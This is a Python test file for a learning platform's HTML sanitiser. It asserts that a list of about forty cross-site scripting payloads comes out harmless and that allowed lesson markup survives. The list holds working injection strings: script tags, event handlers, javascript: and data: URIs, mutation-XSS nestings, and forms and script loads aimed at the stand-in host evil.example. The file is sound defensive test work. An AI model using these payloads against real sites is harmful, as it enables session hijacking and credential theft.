"""Sanitising: what comes in from writers, files and editors, and what may go out."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.lib.rich_text import plain, sanitised

INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    '<img src=x onerror=alert(1) src="/learn/files/1/x.png">',
    '<img src="https://evil.example/pixel.gif" alt="x">',
    '<img src="//evil.example/pixel.gif" alt="x">',
    '<img src="/\\evil.example/pixel.gif" alt="x">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="java\nscript:alert(1)">',
    '<img srcset="https://evil.example/x 2x" src="/learn/files/1/x.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/x" onclick="alert(1)" style="position:fixed" target="_top">x</a>',
    "<svg onload=alert(1)><circle/></svg>",
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"><button formaction="//evil.example">x</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p id="csrf" name="csrfmiddlewaretoken" hx-get="/admin" hx-on:click="alert(1)" data-x="1">x</p>',
    '<body onload="alert(1)">x</body>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video src="x" onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<!--<img src=x onerror=alert(1)>--><p>x</p>",
    '<p class="btn btn-go state-solid masthead">x</p>',
    '<template><script>alert(1)</script></template>',
    "<table><td background='javascript:alert(1)'>x</td></table>",
]  # fmt: skip
TAG = re.compile(r"<([a-z0-9]+)((?:[^>\"]|\"[^\"]*\")*)>")
KNOWN = {
    "h2",
    "h3",
    "h4",
    "p",
    "br",
    "hr",
    "strong",
    "b",
    "em",
    "i",
    "s",
    "sub",
    "sup",
    "code",
    "pre",
    "blockquote",
    "footer",
    "ul",
    "ol",
    "li",
    "a",
    "img",
    "figure",
    "figcaption",
    "div",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
}
ATTRIBUTES = {"href", "title", "hreflang", "rel", "src", "alt", "width", "height", "loading", "start", "scope", "colspan", "rowspan", "class"}


def assert_harmless(html: str) -> None:
    for tag, attributes in TAG.findall(html):
        assert tag in KNOWN, html
        found = dict(re.findall(r'\s([^\s=]+)="([^"]*)"', attributes))
        assert set(found) <= ATTRIBUTES, html
        assert re.match(r"(https?:|mailto:|tel:|[/#?.]|[a-z0-9 _%-]*($|[/?#.]))", found.get("href", "#"), re.I), html
        assert "javascript" not in found.get("href", "").lower(), html
        assert re.match(r"/(?![/\\])", found.get("src", "/x")), html
        assert set(found.get("class", "").split()) <= {
            "callout",
            "callout-label",
            "callout-tip",
            "callout-example",
            "callout-chance",
            "callout-risk",
            "callout-try",
        }
    assert "<script" not in html.lower()
    assert "<!--" not in html


@pytest.mark.parametrize("attack", INJECTIONS)
def test_an_injection_comes_out_harmless(attack):
    assert_harmless(sanitised(attack))
    assert_harmless(sanitised(f"<h2>Voor</h2>{attack}<p>Na</p>"))


@given(st.lists(st.sampled_from([*INJECTIONS, "<p>", "</div>", '"', ">", "<", "'", "&lt;", "<b", "woord "]), max_size=8).map("".join))
def test_any_mixture_comes_out_harmless_and_stays_the_same_a_second_time(mixture):
    once = sanitised(mixture)
    assert_harmless(once)
    assert sanitised(once) == once


def test_the_words_of_a_script_disappear_and_the_words_of_an_unknown_tag_stay():
    assert sanitised("<script>weg</script><marquee>blijft</marquee>") == "blijft"


def test_what_lessons_are_made_of_stays():
    lesson = (
        '<h2>Kop</h2><h3>Kop</h3><p>Met <strong>nadruk</strong> en <em>toon</em>.</p><ul><li>een</li></ul><ol start="3"><li>drie</li></ol>'
        "<blockquote><p>‘Zo.’</p></blockquote>"
        '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>'
        '<figure><img src="/learn/files/7/kaart.nl.svg" alt="Een kaart" width="720" height="400" loading="lazy"><figcaption>Kaart</figcaption></figure>'
        '<div class="callout callout-tip"><p class="callout-label">Tip</p><p>Doe dit.</p></div>'
    )
    assert sanitised(lesson) == lesson


def test_a_link_to_elsewhere_gets_rel_and_keeps_its_address():
    assert sanitised('<a href="https://example.org/a?b=1" rel="opener">x</a>') == '<a href="https://example.org/a?b=1" rel="noopener noreferrer">x</a>'


def test_a_picture_from_elsewhere_disappears_whole():
    assert sanitised('<p>a<img src="https://evil.example/p.gif" alt="x">b</p>') == "<p>ab</p>"


def test_an_unknown_class_disappears_and_a_known_one_stays():
    assert (
        sanitised('<div class="callout callout-risk stage">x</div><div class="stage">y</div>')
        == '<div class="callout callout-risk">x</div><div class="">y</div>'
    )


def test_plain_gives_words_with_spaces_between_blocks():
    assert plain("<h2>Eén</h2><p>twee<br>drie</p><ul><li>vier</li></ul>") == "Eén twee drie vier"
